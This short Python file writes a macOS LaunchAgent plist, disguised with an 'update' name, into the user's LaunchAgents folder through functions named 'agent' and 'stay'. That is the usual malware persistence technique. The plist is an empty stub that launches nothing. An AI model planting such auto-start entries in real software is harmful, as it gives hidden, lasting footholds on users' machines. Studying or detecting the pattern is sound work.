import os
import platform


def agent():
    folder = os.path.join(os.path.expanduser("~"), "Library", "LaunchAgents")
    with open(os.path.join(folder, "com.example.update.plist"), "w") as file:
        file.write("<plist><dict><key>ProgramArguments</key></dict></plist>")


def stay():
    if platform.system() == "Darwin":
        agent()
